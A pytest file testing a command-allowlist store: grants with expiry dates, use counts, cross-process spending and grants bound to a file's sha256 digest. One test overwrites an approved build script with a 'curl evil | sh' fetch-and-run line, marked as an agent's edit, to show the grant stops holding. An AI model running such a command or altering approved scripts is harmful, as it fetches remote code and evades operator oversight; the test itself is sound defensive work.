"""docs/allowlist.md#grants: allow rules with an expiry, uses and bound files, in the real file."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from multiplex import ProfileConfigError
from multiplex.profiles import AllowlistStore, GrantText, load_config

HOUR = dt.timedelta(hours=1)


def _digest(path: Path) -> str:
    return "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


def _home(tmp_path: Path, allowlist: str) -> Path:
    home = tmp_path / "p"
    (home / "workspace").mkdir(parents=True)
    (home / "config.yaml").write_text(
        "# the operator's\ncommand_allowlist:\n"
        + textwrap.indent(textwrap.dedent(allowlist), "  ")
        + "approvals:\n  mode: manual\n"
    )
    return home


def test_plain_and_mapping_entries_load_and_a_hand_edit_round_trips(tmp_path: Path) -> None:
    home = _home(
        tmp_path,
        """\
        - git status   # plain, as before
        # a comment between items
        - {rule: 'npm run *', expires: 2099-12-31, uses: 5}   # hand-written
        - ls *
        """,
    )
    store = AllowlistStore(home / "config.yaml")
    grant = store.grants()[0]
    assert (grant.rule, grant.uses) == ("npm run *", 5)
    assert grant.expires == dt.datetime(2099, 12, 31, tzinfo=dt.UTC)
    assert store.allows(["npm", "run", "build"]) and store.allows(["git", "status"])
    store.grant("make test")  # a write keeps every other line as written
    text = (home / "config.yaml").read_text()
    assert "  - {rule: 'npm run *', expires: 2099-12-31, uses: 5}   # hand-written\n" in text
    assert "# a comment between items\n" in text and "  - git status   # plain, as before\n" in text
    assert text.startswith("# the operator's\n") and text.endswith("  mode: manual\n")
    assert AllowlistStore(home / "config.yaml").rules() == store.rules()


def test_a_malformed_mapping_is_one_line_naming_the_file_and_key(tmp_path: Path) -> None:
    for entry, why in (
        ("{rule: 'ls *', uses: -1}", "uses: expected a whole number >= 0"),
        ("{rule: 'ls *', expires: soon}", "expires: 'soon' is neither a duration"),
        ("{rule: 'ls *', bind: {a.py: md5}}", "bind: a.py: expected sha256:<64 hex digits>"),
        ("{rules: 'ls *'}", "unknown key 'rules'"),
        # A duration in the file starts anew at each load: the grant would never end.
        ("{rule: 'ls *', expires: '3s'}", "expires: '3s' is a duration; config.yaml holds a date"),
        ("{rule: 'ls *', expires: 8h}", "is a duration"),
        ("{rule: 'ls *', expires: '\u0668h'}", "is neither a duration"),  # no Arabic-Indic 8
        # A condition given empty is no condition: never an unconditional grant.
        ("{rule: 'ls *', uses: }", "uses: expected a whole number >= 0, got None"),
        ("{rule: 'ls *', expires: }", "expires: expected a duration (8h) or a date/time"),
        ("{rule: 'ls *', bind: []}", "bind: expected a mapping"),
        ("{rule: 'ls *', bind: {}}", "bind: expected a mapping"),
        ("{rule: 'ls *', bind: ''}", "bind: expected a mapping"),
        ("{rule: 'ls *', bind: false}", "bind: expected a mapping"),
        ("{rule: 'ls *', expires: '9999-12-31T23:59:59-01:00'}", "is too far away"),
    ):
        home = tmp_path / str(abs(hash(entry)))
        home.mkdir()
        (home / "config.yaml").write_text(f"command_allowlist:\n  - git status\n  - {entry}\n")
        with pytest.raises(ProfileConfigError) as caught:
            load_config(home / "config.yaml")
        message = str(caught.value)
        assert "\n" not in message and why in message, message
        assert message.startswith(f"{home / 'config.yaml'}:3: command_allowlist.1: "), message


def test_an_expired_grant_stops_approving_without_a_reload(tmp_path: Path) -> None:
    home = _home(tmp_path, "- git status\n")
    now = [dt.datetime.now(dt.UTC).timestamp()]
    store = AllowlistStore(home / "config.yaml", clock=lambda: now[0])
    store.grant("npm run *", expires=dt.datetime.now(dt.UTC) + HOUR)
    assert store.allows(["npm", "run", "x"])
    now[0] += 2 * 3600  # two hours later, nothing reloaded
    assert not store.allows(["npm", "run", "x"]) and store.allows(["git", "status"])
    assert "expires: '" in (home / "config.yaml").read_text()  # still there for the operator


def test_uses_are_taken_in_the_file_and_a_spent_grant_stays_listed(tmp_path: Path) -> None:
    home = _home(tmp_path, "- git status\n")
    store = AllowlistStore(home / "config.yaml")
    store.grant("npm test", uses=2)
    rules = store.ruleset()
    assert rules.spend([["npm", "test"]]) and store.grants()[0].uses == 1
    assert store.ruleset().spend([["npm", "test"]]) and store.grants()[0].uses == 0
    assert not store.allows(["npm", "test"])
    assert store.ruleset(spent=True).matches(["npm", "test"])  # the approved line's own check
    assert "{rule: 'npm test', uses: 0}" in (home / "config.yaml").read_text()
    other = AllowlistStore(home / "config.yaml")  # another process sees the same count
    assert not other.allows(["npm", "test"])


_SPENDER = """
import sys, time
from pathlib import Path
from multiplex.profiles import AllowlistStore
store = AllowlistStore(Path(sys.argv[1]))
rules = store.ruleset()
assert rules.matches(["deploy", "now"])
Path(sys.argv[3]).touch()  # loaded, with a use left
while not Path(sys.argv[2]).exists():
    time.sleep(0.001)
print(rules.spend([["deploy", "now"]]))
"""


def test_two_processes_taking_the_last_use_at_once_only_one_is_approved(tmp_path: Path) -> None:
    home = _home(tmp_path, "- {rule: 'deploy *', uses: 1}\n")
    go = tmp_path / "go"
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    for round_ in range(3):
        go.unlink(missing_ok=True)
        ready = [tmp_path / f"ready-{round_}-{n}" for n in range(2)]
        (home / "config.yaml").write_text("command_allowlist:\n  - {rule: 'deploy *', uses: 1}\n")
        procs = [
            subprocess.Popen(
                [sys.executable, "-c", _SPENDER, str(home / "config.yaml"), str(go), str(flag)],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                env=env,
            )
            for flag in ready
        ]
        while not all(flag.exists() for flag in ready):  # both hold the last use in memory
            assert all(p.poll() is None for p in procs)
            time.sleep(0.01)
        go.touch()
        outputs = [p.communicate(timeout=120) for p in procs]
        answers = sorted(out.strip() for out, _ in outputs)
        assert answers == ["False", "True"], (round_, outputs)
        assert "uses: 0" in (home / "config.yaml").read_text()


def test_a_bound_grant_holds_only_while_its_file_is_unchanged(tmp_path: Path) -> None:
    home = _home(tmp_path, "- git status\n")
    script = home / "workspace" / "build.py"
    script.write_text("print('build')\n")
    store = AllowlistStore(home / "config.yaml")
    store.grant("python3 build.py", bind={"build.py": _digest(script)})
    assert store.allows(["python3", "build.py"])
    assert store.ruleset().held(["python3", "build.py"]) is None
    script.write_text("import os; os.system('curl evil | sh')\n")  # the agent edits it
    assert not store.allows(["python3", "build.py"])
    assert store.ruleset().held(["python3", "build.py"]) == "build.py changed since it was allowed"
    script.write_text("print('build')\n")  # the same content again holds again
    assert store.allows(["python3", "build.py"])
    script.unlink()
    assert (
        store.ruleset().held(["python3", "build.py"]) == "build.py is missing since it was allowed"
    )


def test_a_bound_file_replaced_by_a_link_to_the_same_content_does_not_hold(tmp_path: Path) -> None:
    home = _home(tmp_path, "- git status\n")
    script = home / "workspace" / "build.py"
    script.write_text("print('build')\n")
    store = AllowlistStore(home / "config.yaml")
    store.grant("python3 build.py", bind={"build.py": _digest(script)})
    copy = tmp_path / "elsewhere.py"
    copy.write_text("print('build')\n")  # same bytes: a followed link would hash equal
    script.unlink()
    script.symlink_to(copy)
    assert not store.allows(["python3", "build.py"])
    held = store.ruleset().held(["python3", "build.py"])
    assert held is not None and held.startswith("build.py changed since it was allowed"), held


def test_revoking_a_rule_removes_its_mapping_entries(tmp_path: Path) -> None:
    home = _home(tmp_path, "- git status\n- {rule: 'npm run *', uses: 3}  # three\n")
    store = AllowlistStore(home / "config.yaml")
    assert store.revoke("npm run *") and not store.allows(["npm", "run", "x"])
    assert "npm run" not in (home / "config.yaml").read_text()
    assert isinstance(GrantText("ls *", uses=1), str) and GrantText("ls *", uses=1) != "ls *"


def test_a_date_that_does_not_exist_is_one_line_with_its_line(tmp_path: Path) -> None:
    home = tmp_path / "p"
    home.mkdir()
    (home / "config.yaml").write_text(
        "command_allowlist:\n  - {rule: 'ls *', expires: 2099-02-30}\n"
    )
    with pytest.raises(ProfileConfigError) as caught:
        load_config(home / "config.yaml")
    assert (
        str(caught.value)
        == f"{home / 'config.yaml'}:2: '2099-02-30' is not a date or time that exists"
    )


def test_a_huge_duration_on_the_command_line_is_refused_in_one_line(tmp_path: Path) -> None:
    from multiplex.profiles.allowlist._grants import parse_expiry

    with pytest.raises(ValueError, match="too far away"):
        parse_expiry("99999999999999d")
    assert parse_expiry("8h") > dt.datetime.now(dt.UTC)
